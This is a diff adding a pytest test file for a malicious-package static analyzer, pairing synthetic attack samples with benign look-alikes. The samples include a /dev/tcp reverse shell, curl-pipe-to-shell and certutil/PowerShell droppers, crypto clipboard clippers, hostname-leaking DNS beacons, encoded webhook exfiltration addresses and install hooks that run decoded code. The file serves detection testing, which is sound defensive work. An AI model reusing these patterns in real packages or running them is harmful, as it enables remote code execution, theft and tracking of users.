@@ -1,0 +1,554 @@
+"""Static evidence that proves intent convicts on its own (issue 13, item 7), and the
+ordinary code that looks like it does not.
+
+Each technique is scanned from small synthetic files (payloads only echo or print,
+addresses are example or documentation ones) and then judged by the shipped rules:
+the malicious forms must come out `malicious` on static evidence alone, the benign
+look-alikes (modelled on real libraries) must raise none of the new kinds.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import unicodedata
+import zlib
+from collections.abc import Mapping
+from dataclasses import replace
+
+import pytest
+
+from analyzer.detect.engine import assess
+from analyzer.detect.rule_cases import parse_cases
+from analyzer.detect.rule_patterns import Problems
+from analyzer.detect.rules import default_rules
+from analyzer.detect.static import SignalKind, StaticSignal, scan_package
+from analyzer.detect.static_literals import decode_layers
+from analyzer.models import Ecosystem, Verdict
+
+PYPI, NPM = Ecosystem.PYPI, Ecosystem.NPM
+NEW_KINDS = {SignalKind.ENCODED_DESTINATION, SignalKind.CLIPBOARD_HIJACK, SignalKind.DROPPER,
+             SignalKind.DNS_BEACON}  # fmt: skip
+
+
+def scan(files: Mapping[str, str], ecosystem: Ecosystem = PYPI) -> list[StaticSignal]:
+    return list(scan_package(((p, b.encode()) for p, b in files.items()), ecosystem))
+
+
+def kinds(files: Mapping[str, str], ecosystem: Ecosystem = PYPI) -> set[SignalKind]:
+    return {s.kind for s in scan(files, ecosystem)}
+
+
+def verdict(files: Mapping[str, str], ecosystem: Ecosystem = PYPI) -> Verdict:
+    """The shipped rules' verdict on the static signals alone (no phase ran)."""
+    problems = Problems()
+    [empty], _ = parse_cases({"positive": [{}]}, "case", problems, ecosystem)
+    result = replace(empty.result, static_signals=tuple(scan(files, ecosystem)))
+    return assess(result, default_rules()).verdict
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def npm(scripts: Mapping[str, str], **files: str) -> dict[str, str]:
+    manifest = {"name": "tool", "version": "1.0.0", "scripts": dict(scripts),
+                "repository": "github:acme/tool"}  # fmt: skip
+    return {"package/package.json": json.dumps(manifest, indent=1),
+            **{f"package/{k}": v for k, v in files.items()}}  # fmt: skip
+
+
+CODES = [112, 114, 105, 110, 116, 40, 49, 41]  # print(1)
+_SETUP_HOOK = """\
+import base64, os
+from setuptools import setup
+from setuptools.command.install import install
+
+def b64d(code):
+    return base64.b64decode(code.encode()).decode()
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        os.system(b64d('{payload}'))
+
+setup(name='h', cmdclass={{'install': PostInstall}})
+"""
+
+# ---- 1. exec/eval/compile of code built from chr, ord, base64, zlib, marshal, [::-1]
+
+EXEC_BUILT = {
+    "chr generator into compile": (
+        f"exec(compile(''.join(chr(c) for c in {CODES}), '<string>', 'exec'))\n"
+    ),
+    "map(chr) into eval": f"eval(''.join(map(chr, {CODES})))\n",
+    "map(chr) through names": f"codes = {CODES}\nsource = ''.join(map(chr, codes))\nexec(source)\n",
+    "ord shift": "s = 'qsjou)2*'\nexec(''.join(chr(ord(c) - 1) for c in s))\n",
+    "reversed string": "exec(')1(tnirp'[::-1])\n",
+    "zlib of base64": "import zlib, base64\nexec(zlib.decompress(base64.b64decode(BLOB)))\n",
+    "marshal of a literal": "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))\n",
+    "decoded by a helper": (
+        "import base64\ndef d(x):\n    return base64.b64decode(x).decode()\n"
+        f"exec(d('{b64('print(1)')}'))\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("body", EXEC_BUILT.values(), ids=EXEC_BUILT.keys())
+def test_execution_of_built_code_at_module_level_is_malicious(body: str) -> None:
+    files = {"pkg-1.0/pkg/__init__.py": body}
+    assert SignalKind.EXEC_DECODED in kinds(files)
+    assert verdict(files) is Verdict.MALICIOUS
+
+
+def test_an_install_hook_running_a_decoded_command_is_malicious() -> None:
+    files = {"h-1.0/setup.py": _SETUP_HOOK.format(payload=b64("echo installed"))}
+    [found] = [s for s in scan(files) if s.kind is SignalKind.EXEC_DECODED]
+    assert found.role.value == "install" and "b64d()" in found.detail
+    assert verdict(files) is Verdict.MALICIOUS
+
+
+def test_javascript_eval_of_char_codes_and_base64() -> None:
+    body = "eval(String.fromCharCode(99,111,110,115,111,108,101));\nnew Function(atob(s))();\n"
+    files = {"package/index.js": body}
+    assert SignalKind.EXEC_DECODED in kinds(files, NPM)
+    assert verdict(files, NPM) is Verdict.MALICIOUS
+
+
+def test_downloaded_code_fed_to_a_python_child_is_remote_execution() -> None:
+    body = (
+        "import subprocess, sys, requests\n"
+        "def update(url):\n    response = requests.get(url, timeout=3)\n"
+        "    code = response.text.encode()\n"
+        "    p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
+        "    p.stdin.write(code)\n    p.stdin.close()\n"
+    )
+    files = {"tbl-1.0/tbl/__init__.py": body}
+    assert SignalKind.EXEC_REMOTE in kinds(files)
+    assert verdict(files) is Verdict.MALICIOUS
+
+
+def test_a_local_script_fed_to_a_python_child_is_not() -> None:
+    body = (
+        "import json, subprocess, sys\nSCRIPT = 'import sys; print(sys.version)'\n"
+        "out = subprocess.run([sys.executable, '-'], input=SCRIPT, text=True)\n"
+        "p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\n"
+        "p.communicate(json.dumps(request.get_json()).encode())\n"
+    )
+    assert SignalKind.EXEC_REMOTE not in kinds({"tool-1.0/tool/probe.py": body})
+
+
+EXEC_ORDINARY = {
+    "Django-style compile of a template": (
+        "def render(path, context):\n    with open(path) as f:\n        source = f.read()\n"
+        "    code = compile(source, path, 'exec')\n    exec(code, context)\n"
+    ),
+    "regex compile": "import re\nWORD = re.compile(r'[a-z]+')\nmatch = WORD.match(text)\n",
+    "pytest-style pyc cache": (
+        "import marshal\ndef _read_pyc(fp):\n    co = marshal.load(fp)\n    return co\n"
+        "co = _read_pyc(fp)\nexec(co, module.__dict__)\n"
+    ),
+    "zipimport-style pyc": (
+        "import marshal\ncode = marshal.loads(data[16:])\nexec(code, mod.__dict__)\n"
+    ),
+    "exec of a string naming a method": (
+        "def _make(meth, dic):\n"
+        "    exec('''def %s(self): return self._callmethod(%r)''' % (meth, meth), dic)\n"
+        "def _callmethod(self, name):\n    return self._conn.recv()\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("body", EXEC_ORDINARY.values(), ids=EXEC_ORDINARY.keys())
+def test_ordinary_exec_and_compile_are_quiet(body: str) -> None:
+    found = kinds({"pkg-1.0/pkg/loader.py": body})
+    assert not found & {SignalKind.EXEC_DECODED, SignalKind.EXEC_REMOTE}, found
+
+
+def test_a_build_command_naming_zlib_is_not_a_decoded_command() -> None:
+    setup = (
+        "import base64, os, subprocess\nfrom setuptools import setup\n"
+        "flags = subprocess.check_output(['pkg-config', '--cflags', 'zlib', 'bz2'])\n"
+        "subprocess.run(['tool', '--stdin'], input=bytes([0, 1]),\n"
+        "               env={'TOKEN': base64.b64decode(os.environ['T'])})\nsetup()\n"
+    )
+    assert SignalKind.EXEC_DECODED not in kinds({"z-1.0/setup.py": setup})
+
+
+# ---- 2. literals that decode to a drop box, or to code
+
+URL_HOOK = "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKl"
+URL_BOT = "https://api.telegram.org/bot123456:ABCdef/sendMessage"
+ENCODED = {
+    "base64 webhook": f"HOOK = base64.b64decode('{b64(URL_HOOK)}').decode()\n",
+    "hex bot API": f"BOT = bytes.fromhex('{URL_BOT.encode().hex()}').decode()\n",
+    "base64 raw IP": f"U = base64.b64decode('{b64('http://93.184.216.34:5000/post')}')\n",
+    "reversed base64 paste site": f"P = '{b64('https://pastebin.com/raw/abcd')[::-1]}'[::-1]\n",
+    "base64 of zlib of base64": (
+        "T = '" + base64.b64encode(zlib.compress(b64(URL_BOT).encode())).decode() + "'\n"
+    ),
+    "JavaScript atob": f"const h = atob('{b64(URL_HOOK)}');\n",
+}
+
+
+@pytest.mark.parametrize("body", ENCODED.values(), ids=ENCODED.keys())
+def test_literals_decoding_to_a_drop_box_are_malicious(body: str) -> None:
+    path = "package/lib/t.js" if "const" in body else "pkg-1.0/pkg/t.py"
+    ecosystem = NPM if path.startswith("package/") else PYPI
+    files = {path: body}
+    assert SignalKind.ENCODED_DESTINATION in kinds(files, ecosystem)
+    assert verdict(files, ecosystem) is Verdict.MALICIOUS
+
+
+def test_decoded_code_is_scanned_like_source() -> None:
+    shell = "import os\nos.system('bash -i >& /dev/tcp/93.184.216.34/4444 0>&1')"
+    found = scan({"pkg-1.0/pkg/t.py": f"STAGE = '{b64(shell)}'\n"})
+    shell_signal = next(s for s in found if s.kind is SignalKind.REVERSE_SHELL)
+    assert "in the" in shell_signal.detail and shell_signal.excerpt.startswith("[decoded]")
+    assert SignalKind.ENCODED_PAYLOAD in {s.kind for s in found}
+
+
+def test_decode_layers_reads_nested_encodings() -> None:
+    layered = base64.b64encode(zlib.compress(b64("hello world").encode())).decode()
+    assert decode_layers(layered) == ("hello world", "base64 + zlib + base64")
+    assert decode_layers("ThisIsJustAnIdentifier42") is None
+    assert decode_layers("a94a8fe5ccb19ba61c4c0873d391e987982fbbd3") is None  # a sha1
+
+
+ENCODED_ORDINARY = {
+    "a test suite decoding the URL it checks": (
+        "pkg-1.0/tests/test_codec.py",
+        f"def test_roundtrip():\n    assert decode('{b64(URL_HOOK)}') == '{URL_HOOK}'\n",
+    ),
+    "an ordinary address, encoded": (
+        "pkg-1.0/pkg/config.py",
+        f"DEFAULT = base64.b64decode('{b64('https://api.example.com/v1/')}').decode()\n",
+    ),
+    "basic auth header": ("pkg-1.0/pkg/auth.py", f"HEADER = 'Basic {b64('user:secret1')}'\n"),
+    "a commit hash and a UUID": (
+        "pkg-1.0/pkg/_version.py",
+        "REV = 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3'\n"
+        "ID = '3f2b8c1e-4d5a-4e6f-9a7b-8c9d0e1f2a3b'\nCLASS = 'HTTPAdapter2Config'\n",
+    ),
+}
+
+
+@pytest.mark.parametrize(("path", "body"), ENCODED_ORDINARY.values(), ids=ENCODED_ORDINARY.keys())
+def test_ordinary_encoded_strings_are_quiet(path: str, body: str) -> None:
+    assert not kinds({path: body}) & NEW_KINDS
+
+
+# ---- 3. clipboard clippers
+
+BTC = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
+ETH = "0x52E7A3c1Bd0aB8e1F4D0a2b9c6F1e8d3A7b5C9e2"
+CLIPPERS = {
+    "pyperclip": (
+        "pkg-1.0/pkg/_watch.py",
+        "import pyperclip, re, time\nwhile True:\n    data = pyperclip.paste()\n"
+        "    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', data):\n"
+        f"        pyperclip.copy('{BTC}')\n    time.sleep(1)\n",
+    ),
+    "tkinter": (
+        "pkg-1.0/pkg/_tk.py",
+        "import tkinter, re\nroot = tkinter.Tk()\nclip = root.clipboard_get()\n"
+        "if re.fullmatch(r'0x[a-fA-F0-9]{40}', clip):\n    root.clipboard_clear()\n"
+        f"    root.clipboard_append('{ETH}')\n",
+    ),
+    "win32clipboard, no pattern": (
+        "pkg-1.0/pkg/_w.py",
+        "import win32clipboard\nwin32clipboard.OpenClipboard()\n"
+        "data = win32clipboard.GetClipboardData()\n"
+        f"if data.startswith('0x'):\n    win32clipboard.SetClipboardText('{ETH}')\n",
+    ),
+    "ctypes": (
+        "pkg-1.0/pkg/_c.py",
+        "import ctypes\nu = ctypes.windll.user32\nu.OpenClipboard(0)\nh = u.GetClipboardData(13)\n"
+        f"WALLETS = {{'btc': '{BTC}'}}\nPATTERN = r'[13][a-km-zA-HJ-NP-Z1-9]{{25,34}}'\n",
+    ),
+    "xclip in a subprocess": (
+        "pkg-1.0/pkg/_x.py",
+        "import subprocess, re\n"
+        "clip = subprocess.run(['xclip', '-selection', 'clipboard', '-o'], capture_output=True)\n"
+        f"if re.search(r'0x[0-9a-fA-F]{{40}}', clip.stdout.decode()):\n"
+        f"    subprocess.run(['xclip', '-selection', 'clipboard'], input=b'{ETH}')\n",
+    ),
+    "navigator.clipboard": (
+        "package/index.js",
+        "setInterval(async () => {\n  const t = await navigator.clipboard.readText();\n"
+        f"  if (/^0x[a-fA-F0-9]{{40}}$/.test(t)) await navigator.clipboard.writeText('{ETH}');\n"
+        "}, 500);\n",
+    ),
+}
+
+
+@pytest.mark.parametrize(("path", "body"), CLIPPERS.values(), ids=CLIPPERS.keys())
+def test_clippers_are_malicious(path: str, body: str) -> None:
+    ecosystem = NPM if path.startswith("package/") else PYPI
+    assert SignalKind.CLIPBOARD_HIJACK in kinds({path: body}, ecosystem)
+    assert verdict({path: body}, ecosystem) is Verdict.MALICIOUS
+
+
+CLIPBOARD_ORDINARY = {
+    "a wallet library: address regexes and contract addresses, no clipboard": (
+        "eth_tools/address.py",
+        "import re\n_HEX_ADDRESS = re.compile(r'^(0x)?[0-9a-fA-F]{40}$')\n"
+        "_B58 = re.compile(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$')\n"
+        "USDT = '0xdAC17F958D2ee523a2206206994597C13D831ec7'\n",
+    ),
+    "a clipboard library: no wallets": (
+        "pyperclip/__init__.py",
+        "def paste():\n    return _run(['xclip', '-selection', 'clipboard', '-o'])\n"
+        "def copy(text):\n    _run(['xclip', '-selection', 'clipboard'], text)\n",
+    ),
+    "a wallet GUI's copy-address button": (
+        "wallet_gui/widgets.py",
+        "import re, pyperclip\nVALID = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
+        "def on_copy(address):\n    if VALID.match(address):\n        pyperclip.copy(address)\n",
+    ),
+    "a burn address placeholder": (
+        "wallet_gui/defaults.py",
+        "import pyperclip\nBURN = '0x000000000000000000000000000000000000dEaD'\n"
+        "pyperclip.copy(BURN)\nDATA = pyperclip.paste()\n",
+    ),
+}
+
+
+@pytest.mark.parametrize(("path", "body"), CLIPBOARD_ORDINARY.values(),
+                         ids=CLIPBOARD_ORDINARY.keys())
+def test_ordinary_clipboard_and_wallet_code_is_quiet(path: str, body: str) -> None:
+    assert SignalKind.CLIPBOARD_HIJACK not in kinds({path: body})
+
+
+# ---- 4. shell strings and code that download an executable and start it
+
+DROPPERS = {
+    "curl -o then start": (
+        "pkg-1.0/pkg/__init__.py",
+        "import os\nos.system('curl -s -o %TEMP%\\\\u.exe https://x.example/u.exe"
+        " && start %TEMP%\\\\u.exe')\n",
+    ),
+    "certutil then start": (
+        "pkg-1.0/pkg/win.py",
+        "import subprocess\nsubprocess.call('certutil -urlcache -split -f "
+        "https://x.example/a.exe %APPDATA%\\\\a.exe & start %APPDATA%\\\\a.exe', shell=True)\n",
+    ),
+    "bitsadmin then run": (
+        "pkg-1.0/pkg/win.py",
+        "import os\nos.system('bitsadmin /transfer j https://x.example/b.exe C:\\\\b.exe"
+        " && C:\\\\b.exe')\n",
+    ),
+    "Invoke-WebRequest then Start-Process": (
+        "pkg-1.0/pkg/win.py",
+        "import subprocess\nsubprocess.Popen(['powershell', '-c', 'Invoke-WebRequest "
+        "https://x.example/c.exe -OutFile $env:TEMP\\\\c.exe;"
+        " Start-Process $env:TEMP\\\\c.exe'])\n",
+    ),
+    "requests, a .exe and os.startfile": (
+        "pkg-1.0/pkg/update.py",
+        "import os, requests\nr = requests.get('https://x.example/u.exe')\n"
+        "with open('u.exe', 'wb') as f:\n    f.write(r.content)\nos.startfile('u.exe')\n",
+    ),
+    "a binary from a raw IP, written and run": (
+        "pkg-1.0/pkg/net.py",
+        "import os, requests\nfor name in ('a', 'b'):\n"
+        "    req = requests.get(f'http://93.184.216.34/{name}')\n"
+        "    with open(name, 'wb') as f:\n        f.write(req.content)\n"
+        "    os.system(f'chmod +x {name}')\n    os.system(f'./{name} &')\n",
+    ),
+    "wget -O, then a shell loop runs it": (
+        "pkg-1.0/pkg/proc.py",
+        "import subprocess\nfile = 'w'\n"
+        "subprocess.Popen(f'cd /tmp && wget -q https://x.example/m -O {file} && chmod +x {file}')\n"
+        "subprocess.Popen(['bash', '-c', f'while true; do /tmp/{file} -o pool; sleep 5; done'])\n",
+    ),
+    "curl piped to sh from code": (
+        "pkg-1.0/pkg/boot.py",
+        "import os\nos.system('curl -fsSL http://93.184.216.34/i.sh | sh')\n",
+    ),
+}
+
+
+@pytest.mark.parametrize(("path", "body"), DROPPERS.values(), ids=DROPPERS.keys())
+def test_droppers_are_malicious(path: str, body: str) -> None:
+    assert SignalKind.DROPPER in kinds({path: body})
+    assert verdict({path: body}) is Verdict.MALICIOUS
+
+
+def test_an_npm_install_script_piping_a_download_into_a_shell() -> None:
+    files = npm({"postinstall": "curl -s https://x.example/i.sh | bash"})
+    assert SignalKind.DROPPER in kinds(files, NPM)
+    assert verdict(files, NPM) is Verdict.MALICIOUS
+
+
+OWN_RELEASE = """\
+const https = require('https'), fs = require('fs');
+const { execFileSync } = require('child_process');
+const { version } = require('./package.json');
+const exe = process.platform === 'win32' ? 'tool.exe' : 'tool';
+const url = `https://github.com/acme/tool/releases/download/v${version}/${exe}`;
+https.get(url, (res) => {
+  res.pipe(fs.createWriteStream(exe)).on('finish', () => {
+    fs.chmodSync(exe, 0o755);
+    execFileSync('./' + exe, ['--version']);
+  });
+});
+"""
+DROPPER_ORDINARY = {
+    "a CLI fetching its own release binary on install": (
+        npm({"postinstall": "node install.js"}, **{"install.js": OWN_RELEASE}), NPM),
+    "the same with the repository written out": (
+        npm({"postinstall": "node install.js"},
+            **{"install.js": OWN_RELEASE.replace("${version}", "1.0.0").replace(
+                "const { version } = require('./package.json');\n", "")}), NPM),
+
+    "curl | sh in the documentation": (
+        {"pkg-1.0/docs/install.py": "CMD = 'curl -fsSL https://x.example/i.sh | sh'\n",
+         "pkg-1.0/README.md": "curl -o x.exe https://x.example/x.exe && start x.exe\n"}, PYPI),
+    "a command catalogue module that runs nothing": (
+        {"pkg-1.0/pkg/cheats.py": "COMMANDS = {\n" + "".join(
+            f"    'tool{i}': 'curl -fsSL https://x.example/{i}.sh | sh',\n" for i in range(8)
+        ) + "}\n"}, PYPI),
+    "a help text, with no process started": (
+        {"pkg-1.0/pkg/cli.py": "HELP = 'run: curl -o t https://x.example/t && ./t'\n"}, PYPI),
+    "an official toolchain installer": (
+        {"pkg-1.0/pkg/rust.py":
+            "import subprocess\nsubprocess.run('curl -sSf https://sh.rustup.rs | sh -s -- -y',"
+            " shell=True)\n"}, PYPI),
+    "a downloaded image opened after download": (
+        {"pkg-1.0/pkg/show.py":
+            "import os\nos.system('curl -s -o logo.png https://x.example/logo.png"
+            " && start logo.png')\n"},
+        PYPI),
+    "a downloaded image named through variables": (
+        {"pkg-1.0/pkg/thanks.py":
+            "import os, tempfile\nimage_url = 'https://x.example/public/image.jpg'\n"
+            "output_path = os.path.join(tempfile.gettempdir(), 'thanks.png')\n"
+            "os.system(f'curl -s -L \"{image_url}\" -o \"{output_path}\"')\n"
+            "os.system(f'cmd /c start \"\" \"{output_path}\"')\n"}, PYPI),
+    "a Linux binary fetched and chmodded by a CLI": (
+        {"pkg-1.0/pkg/fetch.py":
+            "import os, subprocess, urllib.request\n"
+            "urllib.request.urlretrieve('https://x.example/tool', '/tmp/tool')\n"
+            "os.chmod('/tmp/tool', 0o755)\nsubprocess.run(['/tmp/tool', '--version'])\n"}, PYPI),
+}
+
+
+def test_a_release_binary_of_someone_elses_repository_is_no_exemption() -> None:
+    script = OWN_RELEASE.replace("acme/tool", "other/thing").replace(
+        "const { version } = require('./package.json');\n", "")
+    files = npm({"postinstall": "node install.js"}, **{"install.js": script})
+    assert SignalKind.DROPPER in kinds(files, NPM)
+
+
+@pytest.mark.parametrize(("files", "ecosystem"), DROPPER_ORDINARY.values(),
+                         ids=DROPPER_ORDINARY.keys())
+def test_ordinary_downloads_are_no_droppers(files: dict[str, str], ecosystem: Ecosystem) -> None:
+    assert SignalKind.DROPPER not in kinds(files, ecosystem)
+
+
+# ---- 5. DNS names carrying the host's identity or the package's name
+
+BEACONS = {
+    "f-string into gethostbyname": (
+        "pkg-1.0/pkg/_ping.py",
+        "import socket\nsocket.gethostbyname(f'{socket.gethostname()}.pkg.x.oast.fun')\n",
+    ),
+    "concatenated user and host": (
+        "pkg-1.0/pkg/_ping.py",
+        "import getpass, socket\nsocket.getaddrinfo(getpass.getuser() + '.' + "
+        "socket.gethostname() + '.d.example.net', 80)\n",
+    ),
+    "a name traced through assignments": (
+        "pkg-1.0/pkg/_ping.py",
+        "import os, socket\nwho = os.getlogin()\nname = who + '.' + DOMAIN\n"
+        "DOMAIN = 'c2.example.net'\nsocket.gethostbyname(name)\n",
+    ),
+    "nslookup in a shell string": (
+        "pkg-1.0/setup.py",
+        "import os\nfrom setuptools import setup\n"
+        "os.system('nslookup $(whoami).$(hostname).x.example.net')\nsetup()\n",
+    ),
+    "JavaScript dns.lookup": (
+        "package/lib/t.js",
+        "const dns = require('dns'), os = require('os');\n"
+        "dns.lookup(`${os.hostname()}.${os.userInfo().username}.x.example.net`, () => {});\n",
+    ),
+    "the package's name as a label, at install": (
+        "beaconpkg-1.0/setup.py",
+        "import socket\nfrom setuptools import setup\n"
+        "socket.gethostbyname('beaconpkg.abcd1234.collector.example.net')\nsetup()\n",
+    ),
+}
+
+
+@pytest.mark.parametrize(("path", "body"), BEACONS.values(), ids=BEACONS.keys())
+def test_dns_beacons_are_malicious(path: str, body: str) -> None:
+    ecosystem = NPM if path.startswith("package/") else PYPI
+    assert SignalKind.DNS_BEACON in kinds({path: body}, ecosystem)
+    assert verdict({path: body}, ecosystem) is Verdict.MALICIOUS
+
+
+def test_an_npm_preinstall_nslookup_beacon() -> None:
+    files = npm({"preinstall": "nslookup $(hostname).$(whoami).x.example.net"})
+    assert SignalKind.DNS_BEACON in kinds(files, NPM)
+    assert verdict(files, NPM) is Verdict.MALICIOUS
+
+
+DNS_ORDINARY = {
+    "resolving the host's own name": "ADDR = socket.gethostbyname(socket.gethostname())\n",
+    "mDNS and cluster names": (
+        "a = socket.gethostbyname(socket.gethostname() + '.local')\n"
+        "b = f'{socket.gethostname()}.web.default.svc.cluster.local'\n"
+    ),
+    "a file name from the user name": "CACHE = getpass.getuser() + '.cache.json'\n",
+    "the package's own domain": "API = f'{socket.gethostname()}.agents.owntool.io'\n",
+    "a plain lookup of a service": (
+        "socket.getaddrinfo('pypi.org', 443)\nUSER = getpass.getuser()\n"
+    ),
+    "a name with the package's name under its own domain": (
+        "socket.gethostbyname('owntool.owntool.io')\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("body", DNS_ORDINARY.values(), ids=DNS_ORDINARY.keys())
+def test_ordinary_dns_and_identity_use_is_quiet(body: str) -> None:
+    files = {
+        "owntool-1.0/PKG-INFO": "Name: owntool\nHome-page: https://owntool.io\n\n",
+        "owntool-1.0/owntool/__init__.py": "import getpass, socket\n" + body,
+    }
+    assert SignalKind.DNS_BEACON not in kinds(files)
+
+
+# ---- look-alike letters: Python reads 𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀 as subprocess
+
+
+def _math_italic(word: str) -> str:
+    """`word` in mathematical sans-serif bold italic letters (lower case only)."""
+    return "".join(
+        unicodedata.lookup(f"MATHEMATICAL SANS-SERIF BOLD ITALIC SMALL {c.upper()}")
+        if c.islower() else c
+        for c in word
+    )
+
+
+def test_identifiers_in_lookalike_letters_are_read_as_python_reads_them() -> None:
+    body = (
+        f"import requests, subprocess, os\n"
+        f"{_math_italic('url')} = 'https://x.example/cdn/file'\n"
+        f"{_math_italic('response')} = {_math_italic('requests')}.get({_math_italic('url')})\n"
+        f"with open('windows.exe', 'wb') as f:\n    f.write({_math_italic('response')}.content)\n"
+        f"{_math_italic('subprocess')}.call(['windows.exe'])\n"
+    )
+    found = scan({"colr-0.2/colr/__init__.py": body})
+    assert {SignalKind.OBFUSCATION, SignalKind.DROPPER} <= {s.kind for s in found}
+    [spelt] = [s for s in found if "look-alike" in s.detail]
+    assert spelt.line == 2
+
+
+def test_lookalike_letters_in_strings_and_math_symbols_are_not_obfuscation() -> None:
+    styles = f"BOLD = {{'a': '{_math_italic('a')}', 'word': '{_math_italic('bold')}'}}\n"
+    physics = "\N{MATHEMATICAL ITALIC SMALL X} = 2.0\n\N{MATHEMATICAL ITALIC SMALL THETA} = 0.5\n"
+    files = {"fancytext-1.0/fancytext/styles.py": styles, "sim-1.0/sim/model.py": physics}
+    assert SignalKind.OBFUSCATION not in kinds(files)
